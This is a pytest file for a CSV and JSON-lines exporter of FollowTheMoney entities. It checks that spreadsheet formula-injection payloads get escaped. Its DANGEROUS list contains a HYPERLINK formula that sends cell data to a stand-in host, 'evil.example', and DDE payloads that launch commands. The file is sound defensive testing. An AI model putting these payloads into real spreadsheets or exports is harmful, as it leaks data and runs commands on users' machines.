"""Exports: FtM JSON lines round trip, CSV layout, formula-injection escaping, BOM."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from followthemoney import EntityProxy

from corridor.entities.analysis import exports
from corridor.entities.ftm import make_entity
from corridor.entities.imports.ftm_lines import read_ftm
from corridor.errors import InvalidInput
from corridor.tabular.rows import RowError


def person(entity_id: str, **props: list[str]) -> EntityProxy:
    entity = make_entity("Person", entity_id)
    for name, values in props.items():
        entity.add(name, values)
    return entity


def sample() -> list[EntityProxy]:
    ali = person(
        "p1",
        name=["Ali Hassan", "علي حسن"],
        phone=["+923001234567"],
        nationality=["pk"],
        birthDate=["1985-02-01"],
    )
    omar = person("p2", name=["Omar Farouk"], email=["omar@example.org"])
    phone = make_entity("MobileDevice", "m1")
    phone.add("imeiNumber", "356938035643809")
    phone.add("holder", "p1")
    link = make_entity("Associate", "a1")
    link.add("person", "p1")
    link.add("associate", "p2")
    link.add("relationship", "driver")
    return [ali, omar, phone, link]


def read_back(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_ftm_jsonl_round_trip(tmp_path: Path) -> None:
    entities = sample()
    path = tmp_path / "out.ftm.json"
    with open(path, "w", encoding="utf-8") as fh:
        assert exports.write_ftm_jsonl(entities, fh) == 4
    back = [e for _, e in read_ftm(path)]
    assert not any(isinstance(e, RowError) for e in back)
    assert [e.to_dict() for e in back] == [e.to_dict() for e in entities]  # type: ignore[union-attr]
    assert "علي حسن" in path.read_text(encoding="utf-8")


def test_csv_union_of_schemata() -> None:
    out = io.StringIO(newline="")
    assert exports.write_csv(sample(), out) == 4
    rows = read_back(out.getvalue())
    header = list(rows[0])
    assert header[:3] == ["id", "schema", "caption"]
    assert {"name", "phone", "nationality", "email", "imeiNumber", "holder", "person"} <= set(
        header
    )
    assert header.index("name") < header.index("birthDate")  # featured properties first
    ali = rows[0]
    assert ali["schema"] == "Person" and ali["caption"] == "Ali Hassan"
    assert ali["name"] == "Ali Hassan; علي حسن"
    assert ali["imeiNumber"] == ""
    assert rows[2]["holder"] == "p1"
    assert rows[3]["relationship"] == "driver"


def test_csv_one_schema() -> None:
    out = io.StringIO(newline="")
    assert exports.write_csv(sample(), out, schema="Person") == 2
    rows = read_back(out.getvalue())
    assert [r["id"] for r in rows] == ["p1", "p2"]
    assert "imeiNumber" not in rows[0]
    assert rows[1]["email"] == "omar@example.org"
    with pytest.raises(InvalidInput, match="unknown entity schema"):
        exports.write_csv(sample(), io.StringIO(), schema="Spaceship")


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def test_formula_injection_is_escaped_and_read_back() -> None:
    entities = []
    for i, value in enumerate(DANGEROUS):
        entity = make_entity("Person", f"p{i}")
        entity.add("name", "Safe Name")
        # FtM strips surrounding whitespace when it cleans; stored values can still hold it.
        entity.unsafe_add(entity.schema.properties["notes"], value, cleaned=True)
        entities.append(entity)
    out = io.StringIO(newline="")
    exports.write_csv(entities, out)
    rows = read_back(out.getvalue())
    assert [r["notes"] for r in rows] == ["'" + v for v in DANGEROUS]
    assert all(r["name"] == "Safe Name" for r in rows)


def test_phone_numbers_get_the_hidden_apostrophe_and_stay_whole() -> None:
    """OWASP's prefix applies to E.164 phones too: spreadsheets hide the apostrophe and keep
    the number as text, with its + and all digits (not 9.23E+11)."""
    out = io.StringIO(newline="")
    exports.write_csv(sample()[:1], out)
    row = read_back(out.getvalue())[0]
    assert row["phone"] == "'+923001234567"
    assert row["phone"].removeprefix("'") == "+923001234567"
    raw = io.StringIO(newline="")
    exports.write_csv(sample()[:1], raw, escape=False, bom=False)
    assert next(csv.DictReader(io.StringIO(raw.getvalue())))["phone"] == "+923001234567"


def test_safe_values_are_untouched() -> None:
    for value in ["Ali", "1985-02-01", "a=b", "x+y", "e-mail", "user@example.org", "'quoted"]:
        assert exports.escape_cell(value) == value


def test_bom_lets_excel_read_arabic(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        exports.write_csv(sample(), fh, schema="Person")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "علي حسن".encode() in data
    with open(path, encoding="utf-8-sig", newline="") as fh:
        assert next(csv.DictReader(fh))["name"] == "Ali Hassan; علي حسن"


def test_csv_export_streams_through_a_spool_file(monkeypatch: pytest.MonkeyPatch) -> None:
    """More entities than the in-memory spool holds still come out whole, in order."""
    monkeypatch.setattr(exports, "SPOOL_BYTES", 4096)

    def many() -> Iterator[EntityProxy]:
        for i in range(2_000):
            yield person(f"p{i}", name=[f"Person {i}"], phone=[f"+9230012{i:05d}"])

    out = io.StringIO(newline="")
    assert exports.write_csv(many(), out, bom=False) == 2_000
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["id"] for r in rows] == [f"p{i}" for i in range(2_000)]
    assert rows[-1]["phone"] == "'+923001201999"
